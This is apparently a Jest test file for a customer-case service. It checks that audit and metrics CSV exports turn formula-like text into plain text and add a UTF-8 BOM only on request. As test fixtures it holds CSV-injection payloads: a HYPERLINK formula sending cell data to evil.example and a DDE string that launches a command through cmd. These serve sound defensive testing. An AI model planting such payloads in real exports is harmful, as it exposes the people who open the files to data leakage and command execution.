import { randomBytes } from 'node:crypto';
import { openCase, send } from './support/cases.js';
import { csvObjects, looksLikeFormula, parseCsv } from './support/csv.js';
import { binaryParser } from './support/evidence-files.js';
import { bearer, createAgent, createApiKey, createShop, type AgentFixture } from './support/fixtures.js';
import { createTestApp, type TestApp } from './support/test-app.js';

const MINUTE = 60_000;
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/**
 * The CSVs people open in Excel or WPS: text from outside that starts like a formula comes out as text,
 * and `bom=true` puts a UTF-8 BOM first so Chinese text opens correctly.
 */
describe('CSV exports opened in spreadsheets', () => {
  let t: TestApp;
  let key: string;
  let supervisor: AgentFixture;
  let auditor: AgentFixture;
  let caseId: string;
  let from: string;
  let to: string;
  const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")`;
  const hostile = {
    platformCaseId: `${hyperlink}${randomBytes(2).toString('hex')}`,
    orderId: `-2+3+cmd|' /C calc'!A0`,
    buyer: { id: '@SUM(1+1)', nickname: '买家', phone: '+86 138 0013 8000', address: `=HYPERLINK("http://evil.example","浙江省杭州市")` },
  };

  beforeAll(async () => {
    t = await createTestApp();
    const shop = await createShop(t);
    key = (await createApiKey(t, shop.id)).key;
    supervisor = await createAgent(t, shop, 'supervisor', '=1+2 主管');
    auditor = await createAgent(t, shop, 'auditor');
    from = t.clock.now().toISOString();
    const opened = await openCase(t, key, {
      platformCaseId: hostile.platformCaseId,
      reasonCode: hyperlink,
      buyer: hostile.buyer,
      order: { orderId: hostile.orderId },
    });
    caseId = opened.id;
    // Buyer-facing notes may hold no links (the reply guard); the agent's findings may.
    await send(t, supervisor.token, caseId, { type: 'CONTACT_BUYER', note: '=SUM(1+2) 已联系买家' });
    await send(t, supervisor.token, caseId, { type: 'VERIFY', verifiedReasonCode: 'quality_problem', findings: `${hyperlink} 照片确认开胶` });
    t.clock.advance(MINUTE);
    to = t.clock.now().toISOString();
  });
  afterAll(async () => {
    await t?.close();
  });

  const exportCsv = (token: string, query: Record<string, string> = {}) =>
    t.http
      .get('/v1/audit/export')
      .query({ from, to, ...query })
      .set(bearer(token))
      .buffer(true)
      .parse(binaryParser);
  const metricsCsv = (path: string, query: Record<string, string> = {}) =>
    t.http.get(`/v1/metrics/${path}`).query(query).set(bearer(supervisor.token)).set('Accept', 'text/csv').buffer(true).parse(binaryParser);
  const text = (res: { body: unknown }) => (res.body as Buffer).toString('utf8');

  describe('formula neutralisation', () => {
    it('should export outside text that starts like a formula as text in the audit CSV', async () => {
      const res = await exportCsv(supervisor.token);
      expect(res.status).toBe(200);
      const { rows } = csvObjects(text(res));
      expect(rows.length).toBeGreaterThanOrEqual(2);
      for (const row of rows) {
        expect(row).toMatchObject({
          caseId,
          platformCaseId: `'${hostile.platformCaseId}`,
          orderId: `'${hostile.orderId}`,
          buyerId: `'${hostile.buyer.id}`,
          buyerAddress: `'${[...hostile.buyer.address].slice(0, 6).join('')}****`,
        });
        // The payload is JSON: the note and the platform's reason text are inside it, unchanged.
        expect(row.payload.startsWith('{')).toBe(true);
        expect(Object.values(row).filter(looksLikeFormula)).toEqual([]);
      }
      const payloads = rows.map((r) => JSON.parse(r.payload));
      expect(payloads).toContainEqual(expect.objectContaining({ note: '=SUM(1+2) 已联系买家' }));
      expect(payloads).toContainEqual(expect.objectContaining({ findings: `${hyperlink} 照片确认开胶` }));
      expect(payloads).toContainEqual(expect.objectContaining({ platformReason: hyperlink }));
      // Quoted as one field, the single quote inside the quotes.
      expect(text(res)).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")`);

      const unmasked = csvObjects(text(await exportCsv(auditor.token, { includePersonalData: 'true' }))).rows;
      expect(unmasked[0]).toMatchObject({ buyerPhone: `'${hostile.buyer.phone}`, buyerAddress: `'${hostile.buyer.address}` });
      expect(unmasked.flatMap((row) => Object.values(row)).filter(looksLikeFormula)).toEqual([]);
    });

    it('should export a display name that starts like a formula as text in the metrics CSV', async () => {
      const res = await metricsCsv('agents');
      expect(res.status).toBe(200);
      const { rows } = csvObjects(text(res));
      expect(rows.find((r) => r.agentId === supervisor.id)).toMatchObject({ displayName: "'=1+2 主管" });
      expect(rows.flatMap((row) => Object.values(row)).filter(looksLikeFormula)).toEqual([]);
    });
  });

  describe('bom=true', () => {
    it('should start the audit CSV with a UTF-8 BOM only when asked for, the rest unchanged', async () => {
      const plain = await exportCsv(supervisor.token);
      const withBom = await exportCsv(supervisor.token, { bom: 'true' });
      expect([plain.status, withBom.status]).toEqual([200, 200]);
      expect((plain.body as Buffer).subarray(0, 3).equals(BOM)).toBe(false);
      expect((withBom.body as Buffer).subarray(0, 3).equals(BOM)).toBe(true);
      expect((withBom.body as Buffer).subarray(3).equals(plain.body as Buffer)).toBe(true);
      expect(withBom.headers['x-export-rows']).toBe(plain.headers['x-export-rows']);
      expect(((await exportCsv(supervisor.token, { bom: 'false' })).body as Buffer).equals(plain.body as Buffer)).toBe(true);

      // NDJSON never gets one: JSON parsers do not expect it.
      const ndjson = await exportCsv(supervisor.token, { format: 'ndjson', bom: 'true' });
      expect(ndjson.status).toBe(200);
      expect(JSON.parse(text(ndjson).split('\n')[0]).caseId).toBe(caseId);

      const bad = await t.http.get('/v1/audit/export').query({ from, to, bom: 'yes' }).set(bearer(supervisor.token));
      expect(bad.status).toBe(400);
      expect(bad.body.errors).toEqual([expect.objectContaining({ field: 'bom' })]);
    });

    it('should start the metrics CSVs with a UTF-8 BOM only when asked for', async () => {
      for (const [path, query] of [
        ['summary', {}],
        ['timeseries', { metric: 'opened' }],
        ['agents', {}],
      ] as const) {
        const plain = await metricsCsv(path, query);
        const withBom = await metricsCsv(path, { ...query, bom: 'true' });
        expect({ path, statuses: [plain.status, withBom.status] }).toEqual({ path, statuses: [200, 200] });
        expect({ path, plain: (plain.body as Buffer).subarray(0, 3).equals(BOM), withBom: (withBom.body as Buffer).subarray(0, 3).equals(BOM) }).toEqual({
          path,
          plain: false,
          withBom: true,
        });
        expect(parseCsv((withBom.body as Buffer).subarray(3).toString('utf8'))).toEqual(parseCsv(text(plain)));
      }
      // JSON is JSON, whatever bom says.
      const json = await t.http.get('/v1/metrics/summary').query({ bom: 'true' }).set(bearer(supervisor.token));
      expect(json.status).toBe(200);
      expect(json.headers['content-type']).toMatch(/^application\/json/);
    });

    it('should document bom on every CSV endpoint', async () => {
      const paths = (await t.http.get('/docs/json')).body.paths;
      for (const path of ['/v1/audit/export', '/v1/metrics/summary', '/v1/metrics/timeseries', '/v1/metrics/agents']) {
        const bom = paths[path].get.parameters.find((p: { name: string }) => p.name === 'bom');
        expect({ path, bom }).toEqual({
          path,
          bom: expect.objectContaining({ in: 'query', required: false, schema: expect.objectContaining({ type: 'boolean' }) }),
        });
      }
      expect(paths['/v1/metrics/paid-orders'].get.parameters.map((p: { name: string }) => p.name)).not.toContain('bom');
    });
  });
});
